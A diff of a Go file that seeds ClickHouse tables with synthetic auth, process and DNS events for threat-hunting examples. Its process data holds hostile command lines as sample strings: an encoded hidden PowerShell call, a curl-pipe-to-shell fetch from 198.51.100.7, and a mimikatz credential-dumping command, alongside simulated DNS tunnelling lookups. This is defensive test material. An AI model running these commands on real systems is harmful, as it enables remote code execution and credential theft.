@@ -16,71 +16,74 @@ var sampleDDL = []string{
 	"CREATE DATABASE IF NOT EXISTS sample",
 	`CREATE TABLE IF NOT EXISTS sample.auth_events (
     ts      DateTime64(3, 'UTC'),
-    user    LowCardinality(String),
+    user    String,
     src_ip  String,
     outcome LowCardinality(String),
-    method  LowCardinality(String)
+    country LowCardinality(String)
 ) ENGINE = MergeTree ORDER BY ts`,
 	`CREATE TABLE IF NOT EXISTS sample.process_events (
-    ts           DateTime64(3, 'UTC'),
-    host         LowCardinality(String),
-    user         LowCardinality(String),
-    process      LowCardinality(String),
-    parent       LowCardinality(String),
-    command_line String
+    ts      DateTime64(3, 'UTC'),
+    host    String,
+    process String,
+    parent  String,
+    cmdline String
 ) ENGINE = MergeTree ORDER BY ts`,
 	`CREATE TABLE IF NOT EXISTS sample.dns_events (
-    ts     DateTime64(3, 'UTC'),
-    host   LowCardinality(String),
-    query  String,
-    qtype  LowCardinality(String),
-    answer String
+    ts    DateTime64(3, 'UTC'),
+    host  String,
+    query String,
+    qtype LowCardinality(String),
+    bytes UInt32
 ) ENGINE = MergeTree ORDER BY ts`,
 }
 
 // sampleInserts fill [from, to) (epoch milliseconds) with events, generated inside ClickHouse
-// so that one round trip per table covers any span. Rates: ~4 auth, ~2 process and ~6 DNS
-// events per second; one host in ~40 s tries a password spray, and rare suspicious processes
-// and DNS tunnelling lookups appear.
+// so that one round trip per table covers any span. The schema is the one examples/hunts
+// assumes (examples/hunts/README.md). Rates: ~4 auth, ~2 process and ~6 DNS events per second.
+// Attacks are tied to the event time (not the batch), so they recur at a steady pace whatever
+// the insert cadence: a brute force every 80 s, a password spray every 2 min, a tunnelling
+// host every 2 min, and rarer impossible travel, encoded PowerShell and curl-pipe-shell.
 func sampleInserts(from, to int64) []string {
 	span := to - from
 	if span <= 0 {
 		return nil
 	}
 	n := func(perSecond int64) int64 { return max(1, span*perSecond/1000) }
-	ts := func(count int64) string {
-		return fmt.Sprintf("fromUnixTimestamp64Milli(toInt64(%d + intDiv(number * %d, %d)), 'UTC')", from, span, count)
+	rows := func(count int64) string {
+		return fmt.Sprintf("(SELECT fromUnixTimestamp64Milli(toInt64(%d + intDiv(number * %d, %d)), 'UTC') AS ts, "+
+			"toUnixTimestamp(ts) AS t, number FROM numbers(%d))", from, span, count, count)
 	}
-	auth := n(4)
-	proc := n(2)
-	dns := n(6)
 	return []string{
-		fmt.Sprintf(`INSERT INTO sample.auth_events
-SELECT %s,
-       ['alice','bob','carol','dave','erin','frank','svc-backup','admin'][1 + rand(1) %% 8],
-       if(intDiv(number, 20) %% 10 = 7, concat('203.0.113.', toString(1 + intDiv(number, 200) %% 5)),
-          concat('10.0.', toString(rand(2) %% 4), '.', toString(rand(3) %% 250))),
-       if(intDiv(number, 20) %% 10 = 7 OR rand(4) %% 20 = 0, 'failure', 'success'),
-       ['password','sso','ssh-key'][1 + rand(5) %% 3]
-FROM numbers(%d)`, ts(auth), auth),
-		fmt.Sprintf(`INSERT INTO sample.process_events
-SELECT %s,
-       concat('ws-', toString(rand(1) %% 12)),
-       ['alice','bob','carol','dave','erin','frank'][1 + rand(2) %% 6],
-       if(rand(3) %% 150 = 0, 'powershell.exe', ['chrome.exe','code','bash','python3','sshd','explorer.exe'][1 + rand(4) %% 6]),
-       ['explorer.exe','systemd','bash','winword.exe'][1 + rand(5) %% 4],
-       if(rand(3) %% 150 = 0, 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
-          if(rand(6) %% 300 = 0, 'bash -c "curl -s http://198.51.100.7/x.sh | sh"', 'normal --flag'))
-FROM numbers(%d)`, ts(proc), proc),
-		fmt.Sprintf(`INSERT INTO sample.dns_events
-SELECT %s,
-       concat('ws-', toString(rand(1) %% 12)),
-       if(rand(2) %% 120 = 0,
-          concat(lower(hex(randomString(20))), '.t.exfil-example.net'),
-          ['example.com','api.github.com','login.microsoftonline.com','updates.vendor.example','intranet.local'][1 + rand(3) %% 5]),
-       if(rand(2) %% 120 = 0, 'TXT', ['A','AAAA','CNAME'][1 + rand(4) %% 3]),
-       concat('192.0.2.', toString(rand(5) %% 250))
-FROM numbers(%d)`, ts(dns), dns),
+		`INSERT INTO sample.auth_events
+SELECT ts,
+       multiIf(spray, concat('user', toString(rand(1) % 40)),
+               ['alice','bob','carol','dave','erin','frank','svc-backup','admin'][1 + rand(1) % 8]),
+       multiIf(brute, concat('203.0.113.', toString(intDiv(t, 80) % 50)),
+               spray, concat('198.51.100.', toString(intDiv(t, 120) % 50)),
+               concat('10.0.', toString(rand(2) % 4), '.', toString(rand(3) % 250))),
+       if(brute OR spray OR rand(4) % 25 = 0, 'failure', 'success'),
+       if(travel, 'BR', ['US','GB','DE'][1 + cityHash64(user) % 3])
+FROM (SELECT *, intDiv(t, 10) % 8 = 3 AS brute, intDiv(t, 10) % 12 = 6 AS spray,
+             rand(9) % 900 = 0 AS travel FROM ` + rows(n(4)) + `)`,
+		`INSERT INTO sample.process_events
+SELECT ts,
+       if(rare, 'ws-3', concat('ws-', toString(rand(1) % 12))),
+       multiIf(ps, 'powershell.exe', curl, 'bash', rare, 'mimikatz.exe',
+               ['chrome.exe','code','bash','python3','sshd','explorer.exe'][1 + rand(4) % 6]),
+       multiIf(ps, 'winword.exe', ['explorer.exe','systemd','bash'][1 + rand(5) % 3]),
+       multiIf(ps, 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+               curl, 'bash -c "curl -s http://198.51.100.7/x.sh | sh"',
+               rare, 'mimikatz.exe privilege::debug sekurlsa::logonpasswords',
+               'normal --flag')
+FROM (SELECT *, rand(7) % 120 = 0 AS ps, rand(7) % 120 = 1 AS curl, rand(8) % 600 = 0 AS rare FROM ` + rows(n(2)) + `)`,
+		`INSERT INTO sample.dns_events
+SELECT ts,
+       if(tunnel, 'ws-7', concat('ws-', toString(rand(1) % 12))),
+       if(tunnel, concat(lower(hex(randomString(20))), '.t.exfil-example.net'),
+          ['example.com','api.github.com','login.microsoftonline.com','updates.vendor.example','intranet.local'][1 + rand(3) % 5]),
+       if(tunnel, 'TXT', ['A','AAAA','CNAME'][1 + rand(4) % 3]),
+       toUInt32(if(tunnel, 800 + rand(5) % 400, 60 + rand(5) % 400))
+FROM (SELECT *, intDiv(t, 20) % 6 = 2 AND rand(6) % 3 = 0 AS tunnel FROM ` + rows(n(6)) + `)`,
 	}
 }
 
